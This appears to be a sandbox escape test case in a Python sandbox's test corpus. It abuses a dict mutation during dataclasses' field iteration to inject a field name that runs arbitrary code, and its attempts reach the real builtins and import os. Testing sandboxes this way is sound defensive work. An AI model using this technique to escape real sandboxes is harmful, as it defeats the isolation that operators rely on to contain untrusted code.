# technique: the runtime checks a dataclass's field names when @dataclass is applied (the keys of the class's own __annotations__) and, since 5a55677, lets a Field's name be set only once; but dataclasses iterates that same annotations dict afterwards, calling getattr(cls, name) for each field: an enum.property there looks the name up in cls._member_map_ (a snippet __getitem__), which deletes a later key and inserts '<code>' in its place (same size: the dict iteration goes on and yields the new key); dataclasses makes a fresh Field for it and sets its name once, from None, and the name, typed InitVar so that it appears only in the two parameter lists, is pasted into the source dataclasses execs: 'a=EXPR,_return_type=None,**k):#' runs EXPR unchecked
# source: check-then-use window in dataclasses._process_class (169) + dict mutation during iteration without a size change + dataclasses code generation from field names (106/144)
# note: the validator refuses writing into __annotations__; the runtime layer alone does not
# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import dataclasses, enum, json, typing

GOT = []
SWAP = [None]


class Members:
    # enum.property.__get__(None, cls) looks the name up in cls._member_map_
    def __getitem__(self, key):
        if SWAP[0] is not None:
            annotations, name = SWAP[0]
            SWAP[0] = None
            del annotations['later']  # same size: the iteration goes on with the new key
            annotations[name] = dataclasses.InitVar[int]
        raise KeyError(key)


def generated(expr):
    class K:
        _member_map_ = Members()
        hook: typing.ClassVar[int] = enum.property(lambda self: 0)
        later: int = 0

    GOT.clear()
    SWAP[0] = (K.__annotations__, 'a=GOT.append(' + expr + '),_return_type=None,**k):#')
    dataclasses.dataclass(K)
    return GOT[-1]

attempt('annotations key swapped while dataclasses iterates -> json.dumps.__globals__',
        lambda: generated('json.dumps.' + dn('globals')))
attempt("... __import__('os') from the real builtins",
        lambda: generated('json.dumps.' + dn('globals') + '[' + repr(dn('builtins')) + '][' +
                          repr(dn('import')) + "]('os')"))
